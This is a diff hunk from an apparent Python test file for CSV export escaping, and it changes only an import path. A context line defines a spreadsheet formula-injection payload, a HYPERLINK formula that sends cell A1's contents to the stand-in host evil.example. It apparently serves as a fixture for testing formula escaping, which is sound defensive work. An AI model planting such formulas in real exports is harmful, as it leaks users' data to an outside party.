@@ -8,7 +8,7 @@ from datetime import UTC, datetime
 import polars as pl
 import pytest
 
-from resolution.export import csv_safe, escape_formula, export_tables, write_export
+from resolution.publishing.export import csv_safe, escape_formula, export_tables, write_export
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
 
